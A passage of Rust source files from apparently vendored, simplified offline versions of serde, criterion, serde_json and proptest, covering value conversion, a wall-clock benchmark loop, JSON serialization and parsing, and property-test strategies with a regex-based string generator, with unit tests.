            _ => Err(Error::custom("expected map")),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn option_roundtrip() {
        assert_eq!(Some(3u32).to_value(), Value::U64(3));
        assert_eq!(Option::<u32>::from_value(&Value::Null).unwrap(), None);
        assert_eq!(Option::<u32>::from_value(&Value::U64(9)).unwrap(), Some(9));
    }

    #[test]
    fn missing_map_field_reads_as_null() {
        let m = Value::Map(vec![("a".into(), Value::U64(1))]);
        assert!(m.field("b").is_null());
        assert_eq!(m.field("a").as_u64(), Some(1));
    }

    #[test]
    fn int_range_checks() {
        assert!(u8::from_value(&Value::U64(300)).is_err());
        assert_eq!(u8::from_value(&Value::U64(255)).unwrap(), 255);
        assert_eq!(i32::from_value(&Value::I64(-5)).unwrap(), -5);
    }
}
