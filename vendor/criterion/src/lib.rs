//! Offline vendored subset of `criterion`.
//!
//! Keeps the registration API (`criterion_group!` / `criterion_main!`,
//! `Criterion::bench_function`, benchmark groups with throughput) so the
//! bench targets compile and run unchanged, but replaces the statistical
//! machinery with a plain wall-clock loop: warm up once, pick an iteration
//! count that targets ~1 s, report mean time per iteration (and MiB/s when
//! a byte throughput is set). A substring filter can be passed on the
//! command line, as with real criterion: `cargo bench -- day_loop`.

use std::time::{Duration, Instant};

pub use std::hint::black_box;

/// One finished benchmark's recorded numbers, for machine-readable output.
#[derive(Clone, Debug)]
pub struct Measurement {
    /// Full benchmark name (`group/function`).
    pub name: String,
    /// Mean wall-clock time per iteration, nanoseconds.
    pub mean_ns: u128,
    /// Iterations in the measured loop.
    pub iters: u64,
    /// The group's throughput annotation (work done per iteration), so
    /// emitters can derive bytes/sec or elements/sec from `mean_ns`.
    pub throughput: Option<Throughput>,
}

/// Benchmark context; also carries the CLI filter and test mode.
pub struct Criterion {
    filter: Option<String>,
    test_mode: bool,
    results: Vec<Measurement>,
}

impl Default for Criterion {
    fn default() -> Self {
        // Skip harness flags cargo passes (--bench, --quiet, ...); the
        // first bare argument is a name filter. `--test` (as with real
        // criterion) runs each benchmark once as a smoke test instead of
        // measuring.
        let args: Vec<String> = std::env::args().skip(1).collect();
        let filter = args.iter().find(|a| !a.starts_with('-')).cloned();
        let test_mode = args.iter().any(|a| a == "--test");
        Criterion {
            filter,
            test_mode,
            results: Vec::new(),
        }
    }
}

impl Criterion {
    /// Whether `--test` was passed (single-iteration smoke mode).
    pub fn is_test_mode(&self) -> bool {
        self.test_mode
    }

    /// Measurements recorded so far, in execution order. Empty in test
    /// mode — smoke runs are not benchmarks.
    pub fn measurements(&self) -> &[Measurement] {
        &self.results
    }

    pub fn bench_function<F>(&mut self, name: impl Into<String>, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let name = name.into();
        run_one_on(self, &name, None, f);
        self
    }

    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            criterion: self,
            name: name.into(),
            throughput: None,
        }
    }
}

/// Throughput annotation for a group; only bytes are used here.
#[derive(Clone, Copy, Debug)]
pub enum Throughput {
    Bytes(u64),
    Elements(u64),
}

pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    /// Accepted for API compatibility; the vendored runner sizes its loop
    /// from wall-clock time instead of a sample count.
    pub fn sample_size(&mut self, _n: usize) -> &mut Self {
        self
    }

    pub fn measurement_time(&mut self, _d: Duration) -> &mut Self {
        self
    }

    pub fn throughput(&mut self, t: Throughput) -> &mut Self {
        self.throughput = Some(t);
        self
    }

    pub fn bench_function<F>(&mut self, name: impl Into<String>, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let full = format!("{}/{}", self.name, name.into());
        let throughput = self.throughput;
        run_one_on(self.criterion, &full, throughput, f);
        self
    }

    pub fn finish(self) {}
}

/// Passed to each benchmark closure; `iter` runs the measured routine.
pub struct Bencher {
    iters: u64,
    elapsed: Duration,
}

impl Bencher {
    pub fn iter<R, F: FnMut() -> R>(&mut self, mut routine: F) {
        let start = Instant::now();
        for _ in 0..self.iters {
            black_box(routine());
        }
        self.elapsed = start.elapsed();
    }
}

fn run_one_on<F>(c: &mut Criterion, name: &str, throughput: Option<Throughput>, mut f: F)
where
    F: FnMut(&mut Bencher),
{
    if let Some(pat) = c.filter.as_deref() {
        if pat != "--test" && !name.contains(pat) {
            return;
        }
    }
    if c.test_mode {
        // Smoke mode: one iteration, no measurement — proves the bench
        // still compiles and its body runs without panicking.
        let mut b = Bencher {
            iters: 1,
            elapsed: Duration::ZERO,
        };
        f(&mut b);
        println!("test bench {name:<44} ... ok");
        return;
    }
    // Warmup pass sizes the measurement loop: target ~1 s total, capped so
    // multi-second simulations still finish promptly.
    let mut warm = Bencher {
        iters: 1,
        elapsed: Duration::ZERO,
    };
    f(&mut warm);
    let per_iter = warm.elapsed.max(Duration::from_nanos(1));
    let iters = (Duration::from_secs(1).as_nanos() / per_iter.as_nanos()).clamp(1, 10_000) as u64;

    let mut bench = Bencher {
        iters,
        elapsed: Duration::ZERO,
    };
    f(&mut bench);
    let mean = bench.elapsed / (bench.iters as u32).max(1);

    let rate = match throughput {
        Some(Throughput::Bytes(bytes)) if mean > Duration::ZERO => {
            let mib_s = bytes as f64 / mean.as_secs_f64() / (1024.0 * 1024.0);
            format!("  ({mib_s:.1} MiB/s)")
        }
        Some(Throughput::Elements(n)) if mean > Duration::ZERO => {
            let elem_s = n as f64 / mean.as_secs_f64();
            format!("  ({elem_s:.0} elem/s)")
        }
        _ => String::new(),
    };
    println!(
        "bench {name:<44} {}  [{} iters]{rate}",
        fmt_duration(mean),
        bench.iters
    );
    c.results.push(Measurement {
        name: name.to_string(),
        mean_ns: mean.as_nanos(),
        iters: bench.iters,
        throughput,
    });
}

fn fmt_duration(d: Duration) -> String {
    let nanos = d.as_nanos();
    if nanos < 1_000 {
        format!("{nanos} ns")
    } else if nanos < 1_000_000 {
        format!("{:.2} µs", nanos as f64 / 1_000.0)
    } else if nanos < 1_000_000_000 {
        format!("{:.2} ms", nanos as f64 / 1_000_000.0)
    } else {
        format!("{:.2} s", nanos as f64 / 1_000_000_000.0)
    }
}

/// Bundle benchmark functions under one group entry point.
#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        fn $group(c: &mut $crate::Criterion) {
            $( $target(c); )+
        }
    };
    (name = $group:ident; config = $config:expr; targets = $($target:path),+ $(,)?) => {
        fn $group(c: &mut $crate::Criterion) {
            let _ = &$config;
            $( $target(c); )+
        }
    };
}

/// Emit `main` for a bench target (`harness = false`).
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            let mut c = $crate::Criterion::default();
            $( $group(&mut c); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bencher_runs_requested_iters() {
        let mut count = 0u64;
        let mut b = Bencher {
            iters: 5,
            elapsed: Duration::ZERO,
        };
        b.iter(|| count += 1);
        assert_eq!(count, 5);
    }

    #[test]
    fn duration_formatting() {
        assert_eq!(fmt_duration(Duration::from_nanos(12)), "12 ns");
        assert_eq!(fmt_duration(Duration::from_micros(1500)), "1.50 ms");
    }
}
