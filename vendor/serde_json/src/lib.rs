//! Offline vendored subset of `serde_json`.
//!
//! Renders the vendored serde [`Value`] tree to JSON text and parses JSON
//! text back. Supports exactly the API this workspace calls: [`to_string`],
//! [`to_string_pretty`], [`from_str`], and [`Value`]. Output conventions
//! match real serde_json: compact form has no whitespace, pretty form
//! indents by two spaces, non-finite floats serialize as `null`, and
//! integer-valued floats render with a trailing `.0`.

pub use serde::Value;

use serde::{Deserialize, Serialize};
use std::fmt;

/// Serialization/deserialization error.
#[derive(Debug, Clone, PartialEq)]
pub struct Error(String);

impl Error {
    fn msg(m: impl Into<String>) -> Self {
        Error(m.into())
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "json error: {}", self.0)
    }
}

impl std::error::Error for Error {}

impl From<serde::Error> for Error {
    fn from(e: serde::Error) -> Self {
        Error(e.0)
    }
}

/// Serialize to compact JSON.
pub fn to_string<T: Serialize + ?Sized>(value: &T) -> Result<String, Error> {
    let mut out = String::new();
    write_value(&value.to_value(), &mut out, None, 0);
    Ok(out)
}

/// Serialize to pretty JSON (two-space indent).
pub fn to_string_pretty<T: Serialize + ?Sized>(value: &T) -> Result<String, Error> {
    let mut out = String::new();
    write_value(&value.to_value(), &mut out, Some(2), 0);
    Ok(out)
}

/// Deserialize from JSON text.
pub fn from_str<T: Deserialize>(s: &str) -> Result<T, Error> {
    let mut p = Parser {
        bytes: s.as_bytes(),
        pos: 0,
    };
    p.skip_ws();
    let v = p.parse_value()?;
    p.skip_ws();
    if p.pos != p.bytes.len() {
        return Err(Error::msg(format!("trailing characters at byte {}", p.pos)));
    }
    Ok(T::from_value(&v)?)
}

// --------------------------------------------------------------- writer --

fn write_value(v: &Value, out: &mut String, indent: Option<usize>, depth: usize) {
    match v {
        Value::Null => out.push_str("null"),
        Value::Bool(true) => out.push_str("true"),
        Value::Bool(false) => out.push_str("false"),
        Value::I64(n) => out.push_str(&n.to_string()),
        Value::U64(n) => out.push_str(&n.to_string()),
        Value::F64(f) => write_f64(*f, out),
        Value::Str(s) => write_string(s, out),
        Value::Seq(items) => {
            if items.is_empty() {
                out.push_str("[]");
                return;
            }
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                newline_indent(out, indent, depth + 1);
                write_value(item, out, indent, depth + 1);
            }
            newline_indent(out, indent, depth);
            out.push(']');
        }
        Value::Map(entries) => {
            if entries.is_empty() {
                out.push_str("{}");
                return;
            }
            out.push('{');
            for (i, (k, item)) in entries.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                newline_indent(out, indent, depth + 1);
                write_string(k, out);
                out.push(':');
                if indent.is_some() {
                    out.push(' ');
                }
                write_value(item, out, indent, depth + 1);
            }
            newline_indent(out, indent, depth);
            out.push('}');
        }
    }
}

fn newline_indent(out: &mut String, indent: Option<usize>, depth: usize) {
    if let Some(width) = indent {
        out.push('\n');
        for _ in 0..width * depth {
            out.push(' ');
        }
    }
}

fn write_f64(f: f64, out: &mut String) {
    if !f.is_finite() {
        out.push_str("null");
    } else if f == f.trunc() && f.abs() < 1e15 {
        // Match serde_json: integral floats keep a ".0" marker.
        out.push_str(&format!("{f:.1}"));
    } else {
        out.push_str(&f.to_string());
    }
}

fn write_string(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\u{08}' => out.push_str("\\b"),
            '\u{0c}' => out.push_str("\\f"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

// --------------------------------------------------------------- parser --

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn skip_ws(&mut self) {
        while let Some(&b) = self.bytes.get(self.pos) {
            if matches!(b, b' ' | b'\t' | b'\n' | b'\r') {
                self.pos += 1;
            } else {
                break;
            }
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, b: u8) -> Result<(), Error> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(Error::msg(format!(
                "expected '{}' at byte {}",
                b as char, self.pos
            )))
        }
    }

    fn eat_keyword(&mut self, kw: &str) -> bool {
        if self.bytes[self.pos..].starts_with(kw.as_bytes()) {
            self.pos += kw.len();
            true
        } else {
            false
        }
    }

    fn parse_value(&mut self) -> Result<Value, Error> {
        match self.peek() {
            Some(b'n') if self.eat_keyword("null") => Ok(Value::Null),
            Some(b't') if self.eat_keyword("true") => Ok(Value::Bool(true)),
            Some(b'f') if self.eat_keyword("false") => Ok(Value::Bool(false)),
            Some(b'"') => self.parse_string().map(Value::Str),
            Some(b'[') => self.parse_seq(),
            Some(b'{') => self.parse_map(),
            Some(b) if b == b'-' || b.is_ascii_digit() => self.parse_number(),
            _ => Err(Error::msg(format!("unexpected input at byte {}", self.pos))),
        }
    }

    fn parse_seq(&mut self) -> Result<Value, Error> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Value::Seq(items));
        }
        loop {
            self.skip_ws();
            items.push(self.parse_value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Value::Seq(items));
                }
                _ => {
                    return Err(Error::msg(format!(
                        "expected ',' or ']' at byte {}",
                        self.pos
                    )))
                }
            }
        }
    }

    fn parse_map(&mut self) -> Result<Value, Error> {
        self.expect(b'{')?;
        let mut entries = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Value::Map(entries));
        }
        loop {
            self.skip_ws();
            let key = self.parse_string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let val = self.parse_value()?;
            entries.push((key, val));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Value::Map(entries));
                }
                _ => {
                    return Err(Error::msg(format!(
                        "expected ',' or '}}' at byte {}",
                        self.pos
                    )))
                }
            }
        }
    }

    fn parse_string(&mut self) -> Result<String, Error> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            let start = self.pos;
            // Fast path: advance over a run of plain bytes.
            while let Some(&b) = self.bytes.get(self.pos) {
                if b == b'"' || b == b'\\' || b < 0x20 {
                    break;
                }
                self.pos += 1;
            }
            out.push_str(
                std::str::from_utf8(&self.bytes[start..self.pos])
                    .map_err(|_| Error::msg("invalid utf-8 in string"))?,
            );
            match self.peek() {
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    let esc = self.peek().ok_or_else(|| Error::msg("truncated escape"))?;
                    self.pos += 1;
                    match esc {
                        b'"' => out.push('"'),
                        b'\\' => out.push('\\'),
                        b'/' => out.push('/'),
                        b'n' => out.push('\n'),
                        b'r' => out.push('\r'),
                        b't' => out.push('\t'),
                        b'b' => out.push('\u{08}'),
                        b'f' => out.push('\u{0c}'),
                        b'u' => out.push(self.parse_unicode_escape()?),
                        other => {
                            return Err(Error::msg(format!("bad escape '\\{}'", other as char)))
                        }
                    }
                }
                _ => return Err(Error::msg("unterminated string")),
            }
        }
    }

    fn parse_unicode_escape(&mut self) -> Result<char, Error> {
        let first = self.parse_hex4()?;
        // Surrogate pair handling for characters outside the BMP.
        if (0xd800..0xdc00).contains(&first) {
            if !self.eat_keyword("\\u") {
                return Err(Error::msg("unpaired high surrogate"));
            }
            let low = self.parse_hex4()?;
            if !(0xdc00..0xe000).contains(&low) {
                return Err(Error::msg("invalid low surrogate"));
            }
            let cp = 0x10000 + ((first - 0xd800) << 10) + (low - 0xdc00);
            char::from_u32(cp).ok_or_else(|| Error::msg("invalid surrogate pair"))
        } else {
            char::from_u32(first).ok_or_else(|| Error::msg("invalid \\u escape"))
        }
    }

    fn parse_hex4(&mut self) -> Result<u32, Error> {
        let hex = self
            .bytes
            .get(self.pos..self.pos + 4)
            .ok_or_else(|| Error::msg("truncated \\u escape"))?;
        self.pos += 4;
        let s = std::str::from_utf8(hex).map_err(|_| Error::msg("bad \\u escape"))?;
        u32::from_str_radix(s, 16).map_err(|_| Error::msg("bad \\u escape"))
    }

    fn parse_number(&mut self) -> Result<Value, Error> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b) if b.is_ascii_digit()) {
            self.pos += 1;
        }
        let mut is_float = false;
        if self.peek() == Some(b'.') {
            is_float = true;
            self.pos += 1;
            while matches!(self.peek(), Some(b) if b.is_ascii_digit()) {
                self.pos += 1;
            }
        }
        if matches!(self.peek(), Some(b'e') | Some(b'E')) {
            is_float = true;
            self.pos += 1;
            if matches!(self.peek(), Some(b'+') | Some(b'-')) {
                self.pos += 1;
            }
            while matches!(self.peek(), Some(b) if b.is_ascii_digit()) {
                self.pos += 1;
            }
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos])
            .map_err(|_| Error::msg("bad number"))?;
        if is_float {
            text.parse::<f64>()
                .map(Value::F64)
                .map_err(|_| Error::msg(format!("bad number '{text}'")))
        } else if text.starts_with('-') {
            text.parse::<i64>()
                .map(Value::I64)
                .map_err(|_| Error::msg(format!("bad number '{text}'")))
        } else {
            text.parse::<u64>()
                .map(Value::U64)
                .map_err(|_| Error::msg(format!("bad number '{text}'")))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn compact_roundtrip() {
        let v = Value::Map(vec![
            ("name".into(), Value::Str("mirai".into())),
            ("count".into(), Value::U64(12)),
            ("ratio".into(), Value::F64(0.25)),
            (
                "tags".into(),
                Value::Seq(vec![Value::Str("a\nb".into()), Value::Null]),
            ),
        ]);
        let s = to_string(&v).unwrap();
        assert_eq!(
            s,
            r#"{"name":"mirai","count":12,"ratio":0.25,"tags":["a\nb",null]}"#
        );
        let back: Value = from_str(&s).unwrap();
        assert_eq!(back, v);
    }

    #[test]
    fn pretty_output_indents() {
        let v = Value::Map(vec![("k".into(), Value::Seq(vec![Value::U64(1)]))]);
        assert_eq!(
            to_string_pretty(&v).unwrap(),
            "{\n  \"k\": [\n    1\n  ]\n}"
        );
    }

    #[test]
    fn integral_floats_keep_point() {
        assert_eq!(to_string(&Value::F64(3.0)).unwrap(), "3.0");
        assert_eq!(to_string(&Value::F64(f64::NAN)).unwrap(), "null");
    }

    #[test]
    fn unicode_escapes_parse() {
        let v: Value = from_str(r#""A😀""#).unwrap();
        assert_eq!(v, Value::Str("A\u{1f600}".into()));
    }

    #[test]
    fn negative_and_exponent_numbers() {
        assert_eq!(from_str::<Value>("-7").unwrap(), Value::I64(-7));
        assert_eq!(from_str::<Value>("1.5e3").unwrap(), Value::F64(1500.0));
    }

    #[test]
    fn rejects_trailing_garbage() {
        assert!(from_str::<Value>("{} x").is_err());
        assert!(from_str::<Value>("[1,]").is_err());
    }
}
