//! Offline vendored subset of `proptest`.
//!
//! Implements the API surface this workspace's property tests use: the
//! [`strategy::Strategy`] trait with `prop_map`, regex-string strategies for
//! `&str` literals, integer/float range strategies, `any::<T>()`,
//! [`collection::vec`], [`option::of`], tuple strategies, and the
//! [`proptest!`] / [`prop_assert!`] / [`prop_assert_eq!`] macros.
//!
//! Differences from real proptest, deliberate for an offline build:
//! case generation is fully deterministic (seeded per case index, no
//! entropy), and there is no shrinking — a failing case reports its inputs
//! via the assertion message and the case seed instead.

pub mod strategy {
    use rand::rngs::SmallRng;
    use rand::Rng;

    /// A generator of values for property tests.
    pub trait Strategy {
        type Value;

        fn generate(&self, rng: &mut SmallRng) -> Self::Value;

        /// Transform generated values (`proptest`'s combinator of the same
        /// name).
        fn prop_map<O, F>(self, f: F) -> Map<Self, F>
        where
            Self: Sized,
            F: Fn(Self::Value) -> O,
        {
            Map { inner: self, f }
        }
    }

    /// Output of [`Strategy::prop_map`].
    pub struct Map<S, F> {
        inner: S,
        f: F,
    }

    impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
        type Value = O;

        fn generate(&self, rng: &mut SmallRng) -> O {
            (self.f)(self.inner.generate(rng))
        }
    }

    /// Always generates a clone of one value.
    #[derive(Clone, Debug)]
    pub struct Just<T>(pub T);

    impl<T: Clone> Strategy for Just<T> {
        type Value = T;

        fn generate(&self, _rng: &mut SmallRng) -> T {
            self.0.clone()
        }
    }

    impl<S: Strategy + ?Sized> Strategy for &S {
        type Value = S::Value;

        fn generate(&self, rng: &mut SmallRng) -> S::Value {
            (**self).generate(rng)
        }
    }

    /// A regex literal is a strategy for strings matching it.
    impl Strategy for str {
        type Value = String;

        fn generate(&self, rng: &mut SmallRng) -> String {
            crate::string_regex::generate(self, rng)
        }
    }

    macro_rules! impl_range_strategy {
        ($($t:ty),*) => {$(
            impl Strategy for core::ops::Range<$t> {
                type Value = $t;

                fn generate(&self, rng: &mut SmallRng) -> $t {
                    rng.gen_range(self.clone())
                }
            }

            impl Strategy for core::ops::RangeInclusive<$t> {
                type Value = $t;

                fn generate(&self, rng: &mut SmallRng) -> $t {
                    rng.gen_range(self.clone())
                }
            }
        )*};
    }
    impl_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, f64);

    macro_rules! impl_tuple_strategy {
        ($(($($t:ident . $n:tt),+)),+) => {$(
            impl<$($t: Strategy),+> Strategy for ($($t,)+) {
                type Value = ($($t::Value,)+);

                fn generate(&self, rng: &mut SmallRng) -> Self::Value {
                    ($(self.$n.generate(rng),)+)
                }
            }
        )+};
    }
    impl_tuple_strategy!(
        (A.0),
        (A.0, B.1),
        (A.0, B.1, C.2),
        (A.0, B.1, C.2, D.3),
        (A.0, B.1, C.2, D.3, E.4),
        (A.0, B.1, C.2, D.3, E.4, F.5),
        (A.0, B.1, C.2, D.3, E.4, F.5, G.6),
        (A.0, B.1, C.2, D.3, E.4, F.5, G.6, H.7),
        (A.0, B.1, C.2, D.3, E.4, F.5, G.6, H.7, I.8),
        (A.0, B.1, C.2, D.3, E.4, F.5, G.6, H.7, I.8, J.9),
        (A.0, B.1, C.2, D.3, E.4, F.5, G.6, H.7, I.8, J.9, K.10),
        (A.0, B.1, C.2, D.3, E.4, F.5, G.6, H.7, I.8, J.9, K.10, L.11)
    );
}

pub mod arbitrary {
    use crate::strategy::Strategy;
    use rand::rngs::SmallRng;
    use rand::{Rng, Standard};
    use std::marker::PhantomData;

    /// Strategy for "any value of T" (uniform over the whole domain).
    pub struct Any<T>(PhantomData<T>);

    /// `any::<T>()` — uniform strategy over all of `T`.
    pub fn any<T: Standard>() -> Any<T> {
        Any(PhantomData)
    }

    impl<T: Standard> Strategy for Any<T> {
        type Value = T;

        fn generate(&self, rng: &mut SmallRng) -> T {
            rng.gen()
        }
    }
}

pub mod bool {
    use crate::strategy::Strategy;
    use rand::rngs::SmallRng;
    use rand::Rng;

    /// Strategy yielding either boolean with equal probability.
    #[derive(Clone, Copy, Debug)]
    pub struct BoolAny;

    pub const ANY: BoolAny = BoolAny;

    impl Strategy for BoolAny {
        type Value = bool;

        fn generate(&self, rng: &mut SmallRng) -> bool {
            rng.gen()
        }
    }
}

pub mod collection {
    use crate::strategy::Strategy;
    use rand::rngs::SmallRng;
    use rand::Rng;

    /// Strategy for `Vec<S::Value>` with length drawn from `len`.
    pub struct VecStrategy<S> {
        element: S,
        len: core::ops::Range<usize>,
    }

    /// `vec(element, len_range)` — vectors of generated elements.
    pub fn vec<S: Strategy>(element: S, len: core::ops::Range<usize>) -> VecStrategy<S> {
        VecStrategy { element, len }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;

        fn generate(&self, rng: &mut SmallRng) -> Vec<S::Value> {
            let n = rng.gen_range(self.len.clone());
            (0..n).map(|_| self.element.generate(rng)).collect()
        }
    }
}

pub mod option {
    use crate::strategy::Strategy;
    use rand::rngs::SmallRng;
    use rand::Rng;

    /// Strategy for `Option<S::Value>`; `None` one time in four (matching
    /// real proptest's default weighting).
    pub struct OptionStrategy<S> {
        inner: S,
    }

    pub fn of<S: Strategy>(inner: S) -> OptionStrategy<S> {
        OptionStrategy { inner }
    }

    impl<S: Strategy> Strategy for OptionStrategy<S> {
        type Value = Option<S::Value>;

        fn generate(&self, rng: &mut SmallRng) -> Option<S::Value> {
            if rng.gen_ratio(1, 4) {
                None
            } else {
                Some(self.inner.generate(rng))
            }
        }
    }
}

pub mod string_regex {
    //! A tiny regex-pattern string *generator* (not a matcher). Supports
    //! the constructs this workspace's tests use: literals, `.`, escaped
    //! metacharacters, character classes with ranges and `&&[^...]`
    //! subtraction, groups, and `{n}` / `{m,n}` repetition.

    use rand::rngs::SmallRng;
    use rand::Rng;

    enum Node {
        Lit(char),
        /// `.` — any printable char (plus a couple of multibyte ones so
        /// UTF-8 handling gets exercised).
        Dot,
        Class(Vec<char>),
        Group(Vec<Atom>),
    }

    struct Atom {
        node: Node,
        min: u32,
        max: u32,
    }

    /// Generate one string matching `pattern`. Panics on syntax this
    /// subset does not implement — the failure is loud at test time, not a
    /// silently wrong distribution.
    pub fn generate(pattern: &str, rng: &mut SmallRng) -> String {
        let chars: Vec<char> = pattern.chars().collect();
        let mut pos = 0;
        let atoms = parse_seq(&chars, &mut pos, pattern);
        assert!(
            pos == chars.len(),
            "unsupported regex construct at char {pos} in {pattern:?}"
        );
        let mut out = String::new();
        emit_seq(&atoms, rng, &mut out);
        out
    }

    fn emit_seq(atoms: &[Atom], rng: &mut SmallRng, out: &mut String) {
        for atom in atoms {
            let n = rng.gen_range(atom.min..=atom.max);
            for _ in 0..n {
                match &atom.node {
                    Node::Lit(c) => out.push(*c),
                    Node::Dot => {
                        // Printable ASCII, weighted, with occasional tab
                        // and non-ASCII chars.
                        let roll = rng.gen_range(0u32..100);
                        out.push(match roll {
                            0..=93 => char::from(rng.gen_range(0x20u8..0x7f)),
                            94..=95 => '\t',
                            96..=97 => 'ß',
                            _ => '赤',
                        });
                    }
                    Node::Class(set) => out.push(set[rng.gen_range(0..set.len())]),
                    Node::Group(inner) => emit_seq(inner, rng, out),
                }
            }
        }
    }

    fn parse_seq(chars: &[char], pos: &mut usize, pattern: &str) -> Vec<Atom> {
        let mut atoms = Vec::new();
        while *pos < chars.len() {
            let node = match chars[*pos] {
                ')' => break,
                '(' => {
                    *pos += 1;
                    let inner = parse_seq(chars, pos, pattern);
                    assert!(
                        chars.get(*pos) == Some(&')'),
                        "unclosed group in {pattern:?}"
                    );
                    *pos += 1;
                    Node::Group(inner)
                }
                '[' => Node::Class(parse_class(chars, pos, pattern)),
                '.' => {
                    *pos += 1;
                    Node::Dot
                }
                '\\' => {
                    *pos += 1;
                    let c = *chars
                        .get(*pos)
                        .unwrap_or_else(|| panic!("trailing backslash in {pattern:?}"));
                    *pos += 1;
                    Node::Lit(unescape(c, pattern))
                }
                '|' | '*' | '+' | '?' | '^' | '$' => {
                    panic!(
                        "unsupported regex construct '{}' in {pattern:?}",
                        chars[*pos]
                    )
                }
                c => {
                    *pos += 1;
                    Node::Lit(c)
                }
            };
            let (min, max) = parse_quantifier(chars, pos, pattern);
            atoms.push(Atom { node, min, max });
        }
        atoms
    }

    /// `{n}` / `{m,n}` after an atom; defaults to exactly once.
    fn parse_quantifier(chars: &[char], pos: &mut usize, pattern: &str) -> (u32, u32) {
        if chars.get(*pos) != Some(&'{') {
            return (1, 1);
        }
        *pos += 1;
        let mut lo = String::new();
        let mut hi = String::new();
        let mut in_hi = false;
        loop {
            match chars.get(*pos) {
                Some('}') => {
                    *pos += 1;
                    break;
                }
                Some(',') => in_hi = true,
                Some(d) if d.is_ascii_digit() => {
                    if in_hi {
                        hi.push(*d);
                    } else {
                        lo.push(*d);
                    }
                }
                other => panic!("bad quantifier {other:?} in {pattern:?}"),
            }
            *pos += 1;
        }
        let min: u32 = lo
            .parse()
            .unwrap_or_else(|_| panic!("bad quantifier in {pattern:?}"));
        let max: u32 = if in_hi {
            hi.parse()
                .unwrap_or_else(|_| panic!("bad quantifier in {pattern:?}"))
        } else {
            min
        };
        assert!(min <= max, "inverted quantifier in {pattern:?}");
        (min, max)
    }

    /// Parse `[...]`, supporting ranges, negation, escapes, and one level
    /// of `&&[^...]` class subtraction (as in `[ -~&&[^']]`).
    fn parse_class(chars: &[char], pos: &mut usize, pattern: &str) -> Vec<char> {
        assert!(chars[*pos] == '[');
        *pos += 1;
        let negated = chars.get(*pos) == Some(&'^');
        if negated {
            *pos += 1;
        }
        let mut set: Vec<char> = Vec::new();
        loop {
            match chars.get(*pos) {
                None => panic!("unterminated class in {pattern:?}"),
                Some(']') => {
                    *pos += 1;
                    break;
                }
                Some('&') if chars.get(*pos + 1) == Some(&'&') => {
                    *pos += 2;
                    assert!(
                        chars.get(*pos) == Some(&'['),
                        "class op needs a bracketed operand in {pattern:?}"
                    );
                    let operand = parse_class(chars, pos, pattern);
                    // `A&&[^B]` (the only form used) parses the operand with
                    // its own negation applied, so intersecting is always
                    // right; the outer `]` still follows.
                    set.retain(|c| operand.contains(c));
                    assert!(
                        chars.get(*pos) == Some(&']'),
                        "expected ']' after class op in {pattern:?}"
                    );
                    *pos += 1;
                    break;
                }
                Some(&c) => {
                    *pos += 1;
                    let c = if c == '\\' {
                        let e = *chars
                            .get(*pos)
                            .unwrap_or_else(|| panic!("trailing backslash in {pattern:?}"));
                        *pos += 1;
                        unescape(e, pattern)
                    } else {
                        c
                    };
                    // Range if '-' follows and isn't the closing literal.
                    if chars.get(*pos) == Some(&'-')
                        && chars.get(*pos + 1).is_some_and(|&n| n != ']')
                    {
                        *pos += 1;
                        let mut end = chars[*pos];
                        *pos += 1;
                        if end == '\\' {
                            end = unescape(chars[*pos], pattern);
                            *pos += 1;
                        }
                        assert!(c <= end, "inverted range in {pattern:?}");
                        for v in c as u32..=end as u32 {
                            if let Some(ch) = char::from_u32(v) {
                                set.push(ch);
                            }
                        }
                    } else {
                        set.push(c);
                    }
                }
            }
        }
        if negated {
            // Complement within printable ASCII — all the tests that use
            // `[^...]` operate on printable input.
            let out: Vec<char> = (0x20u8..0x7f)
                .map(char::from)
                .filter(|c| !set.contains(c))
                .collect();
            return out;
        }
